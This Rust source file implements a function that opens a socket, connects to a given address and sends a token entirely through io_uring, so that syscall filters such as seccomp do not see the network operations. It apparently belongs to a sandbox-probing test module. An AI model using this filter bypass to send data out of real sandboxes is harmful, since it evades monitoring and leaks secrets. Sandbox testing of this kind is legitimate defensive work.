//! A connection made without one system call that a filter sees: through an io_uring.
#![expect(
    unsafe_code,
    clippy::multiple_unsafe_ops_per_block,
    reason = "a ring is shared memory; one justification covers its few reads and writes"
)]

use std::io;

use super::shots::{address, address_mut, call, close, length};

/// SOCKET, CONNECT and SEND through a ring: no filter sees the operations.
pub(super) fn send(to: &[u8], token: &[u8]) -> io::Result<()> {
    const SOCKET: u8 = 45;
    const CONNECT: u8 = 16;
    const SEND: u8 = 26;
    let mut parameters = [0_u32; 30];
    let ring = call(
        libc::SYS_io_uring_setup,
        [8, address_mut(&mut parameters), 0, 0, 0, 0],
    )?;
    let shared = |length: i64, offset: i64| {
        let flags = i64::from(libc::MAP_SHARED | libc::MAP_POPULATE);
        call(libc::SYS_mmap, [0, length, 3, flags, ring, offset])
    };
    let rings = shared(8192, 0)?;
    let entries = shared(4096, 0x1000_0000)?;
    let submit =
        |operation: u8, fd: i64, pointer: i64, length: i64, offset: i64| -> io::Result<i64> {
            let word = |offset: u32| (rings + i64::from(offset)) as *mut u32;
            // Offsets of tail, mask and array in the submission ring, of head, mask and entries in the other.
            let [tail, mask, array] = [11, 12, 16].map(|at| word(parameters[at]));
            let [head, done_mask, done] = [20, 21, 25].map(|at| word(parameters[at]));
            // SAFETY: the offsets are the kernel's own, inside the mappings made above.
            unsafe {
                let index = *tail & *mask;
                let entry = (entries + i64::from(index) * 64) as *mut u8;
                entry.write_bytes(0, 64);
                entry.write(operation);
                entry.add(4).cast::<i32>().write(i32::try_from(fd).unwrap());
                entry.add(8).cast::<i64>().write(offset);
                entry.add(16).cast::<i64>().write(pointer);
                entry
                    .add(24)
                    .cast::<u32>()
                    .write(u32::try_from(length).unwrap());
                array.add(index as usize).write(index);
                std::sync::atomic::fence(std::sync::atomic::Ordering::SeqCst);
                tail.write_volatile(*tail + 1);
                call(libc::SYS_io_uring_enter, [ring, 1, 1, 1, 0, 0])?;
                let finished = done.cast::<u8>().add((*head & *done_mask) as usize * 16);
                let result = finished.add(8).cast::<i32>().read_volatile();
                head.write_volatile(*head + 1);
                if result < 0 {
                    Err(io::Error::from_raw_os_error(-result))
                } else {
                    Ok(result.into())
                }
            }
        };
    let socket = submit(SOCKET, libc::AF_INET.into(), 0, 0, libc::SOCK_STREAM.into())?;
    submit(CONNECT, socket, address(to), 0, length(to))?;
    submit(SEND, socket, address(token), length(token), 0)?;
    close(socket);
    close(ring);
    Ok(())
}
